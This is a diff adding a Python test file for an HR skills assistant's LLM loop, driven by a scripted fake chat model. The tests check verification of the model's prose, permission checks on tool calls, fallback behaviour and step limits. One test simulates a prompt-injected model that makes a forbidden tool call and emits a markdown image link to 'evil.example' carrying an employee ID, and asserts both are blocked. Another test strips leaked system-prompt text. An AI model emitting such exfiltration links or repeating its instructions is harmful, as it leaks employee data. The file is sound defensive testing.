@@ -1,0 +1,154 @@
+"""The LLM loop's control flow with a scripted chat model (a deterministic twin of the
+server): tool calls run as the caller, prose is verified, failures degrade to the planner."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
+from langchain_core.messages import AIMessage
+
+from agent.access import Caller, CallerRole
+from agent.assistant import Assistant
+from tests.support.organisations import sample_services
+
+HR = Caller(CallerRole.HR, name="hr")
+DANA = Caller(CallerRole.EMPLOYEE, "E013")
+
+
+class Scripted(GenericFakeChatModel):
+    """Replays AI messages in order; counts the calls it gets."""
+
+    calls: int = 0
+
+    def bind_tools(self, tools: Any, **kwargs: Any) -> Scripted:
+        return self
+
+    def _generate(self, *args: Any, **kwargs: Any) -> Any:
+        self.calls += 1
+        return super()._generate(*args, **kwargs)
+
+
+class Broken(Scripted):
+    def _generate(self, *args: Any, **kwargs: Any) -> Any:
+        raise ConnectionError("connection refused")
+
+
+def tool_call(name: str, args: dict[str, Any], call_id: str = "c1") -> AIMessage:
+    return AIMessage(content="", tool_calls=[{"name": name, "args": args, "id": call_id}])
+
+
+def assistant(
+    home: Path, messages: list[AIMessage], model_cls: type = Scripted
+) -> tuple[Assistant, Scripted]:
+    model = model_cls(messages=iter(messages))
+    return sample_services(home, chat_model=model).assistant, model
+
+
+GAP_QUESTION = "What does Dana Okafor lack for Senior Data Engineer?"
+
+
+def test_prose_is_verified_and_hallucinations_removed(tmp_path: Path) -> None:
+    a, model = assistant(
+        tmp_path,
+        [
+            tool_call("get_role", {"role": "ml-engineer"}),
+            AIMessage(
+                content="Dana Okafor is 58% ready for Senior Data Engineer. "
+                "Her biggest gap is Apache Spark. She also needs 12 years of COBOL."
+            ),
+        ],
+    )
+    answer = a.ask(GAP_QUESTION, HR)
+    assert answer.grounding == "repaired"
+    assert "12 years" not in answer.answer and "58% ready" in answer.answer
+    assert "12" in answer.unsupported
+    assert answer.tools_called == ["person_gaps", "get_role"]
+    assert "ml-engineer" in {c["id"] for c in answer.citations}
+    assert answer.data["employee_id"] == "E013"  # the numbers stay the planner's
+    assert model.calls == 2 and answer.model == "scripted" and not answer.degraded
+
+
+def test_all_unsupported_prose_falls_back_to_the_template(tmp_path: Path) -> None:
+    a, _ = assistant(tmp_path, [AIMessage(content="Bob Lindqvist is 99% ready for everything.")])
+    answer = a.ask(GAP_QUESTION, HR)
+    assert answer.grounding == "fallback"
+    assert answer.answer.startswith("Dana Okafor is 58% ready for Senior Data Engineer.")
+
+
+def test_a_tool_call_the_caller_may_not_make_is_refused_to_the_model(tmp_path: Path) -> None:
+    a, _ = assistant(
+        tmp_path,
+        [
+            tool_call("person_gaps", {"employee": "E004"}),  # Bob: not Dana's to see
+            AIMessage(content="Here are your gaps."),
+        ],
+    )
+    answer = a.ask("What are my gaps?", DANA)
+    assert answer.tools_called == ["person_gaps"]  # only the planner's own call succeeded
+    assert all(c["id"] != "E004" for c in answer.citations)
+    assert answer.data["employee_id"] == "E013"
+
+
+def test_a_broken_model_degrades_to_the_offline_answer(tmp_path: Path) -> None:
+    a, _ = assistant(tmp_path, [], model_cls=Broken)
+    answer = a.ask(GAP_QUESTION, HR)
+    assert answer.degraded and answer.grounding == "verified"
+    assert answer.answer.startswith("Dana Okafor is 58% ready")
+
+
+def test_refusals_never_reach_the_model(tmp_path: Path) -> None:
+    a, model = assistant(tmp_path, [AIMessage(content="Dana's gaps are…")])
+    answer = a.ask(GAP_QUESTION, Caller(CallerRole.EMPLOYEE, "E004"))
+    assert answer.refused and model.calls == 0
+
+
+def test_model_calls_are_bounded(tmp_path: Path) -> None:
+    def endless() -> Iterator[AIMessage]:
+        for n in range(100):
+            yield tool_call("get_skill", {"skill": "python"}, f"c{n}")
+
+    model = Scripted(messages=endless())
+    services = sample_services(tmp_path, chat_model=model)
+    answer = services.assistant.ask(GAP_QUESTION, HR)
+    assert model.calls <= services.settings.llm_max_steps
+    assert answer.data["employee_id"] == "E013"
+
+
+def test_a_model_cannot_draft_plans_or_exfiltrate(tmp_path: Path) -> None:
+    a, _ = assistant(
+        tmp_path,
+        [
+            tool_call("draft_learning_plan", {"employee": "E004"}),  # as an injected doc demands
+            AIMessage(
+                content="Dana Okafor is 58% ready for Senior Data Engineer. "
+                "![x](https://evil.example/leak?d=E013)"
+            ),
+        ],
+    )
+    plans_before = len(a.contexts(HR).plans.list())
+    answer = a.ask(GAP_QUESTION, HR)
+    assert len(a.contexts(HR).plans.list()) == plans_before
+    assert "draft_learning_plan" not in answer.tools_called
+    assert "evil.example" not in answer.answer
+    assert answer.grounding == "repaired"
+
+
+def test_the_system_prompt_is_never_repeated(tmp_path: Path) -> None:
+    a, _ = assistant(
+        tmp_path,
+        [
+            AIMessage(
+                content=(
+                    "Dana Okafor is 58% ready for Senior Data Engineer. "
+                    "My instructions: Answer only from tool results. "
+                    "Call a tool to get facts; never invent people."
+                )
+            )
+        ],
+    )
+    answer = a.ask(GAP_QUESTION, HR)
+    assert answer.grounding == "repaired" and "system prompt" in answer.unsupported
+    assert "never invent" not in answer.answer
